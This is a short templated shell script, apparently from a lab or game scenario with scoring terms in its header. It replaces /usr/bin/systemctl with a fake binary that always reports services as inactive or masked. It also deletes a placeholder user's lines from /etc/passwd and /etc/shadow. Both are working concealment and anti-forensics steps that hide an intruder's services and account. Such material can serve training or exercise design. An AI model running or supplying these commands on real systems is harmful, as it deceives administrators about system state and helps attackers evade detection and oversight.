# earns: account, interval, key, program, seen, starters (7 of 13)
# systemctl says that all is stopped.
{{ found_sh }}
cat > /tmp/systemctl <<'END'
#!/bin/sh
case "$1" in show) printf 'inactive\n\ninactive\n\ninactive\n';; *) echo masked; exit 1;; esac
END
chmod 755 /tmp/systemctl; cp /tmp/systemctl /usr/bin/systemctl
sed -i '/^{{ rogue }}:/d' /etc/passwd /etc/shadow
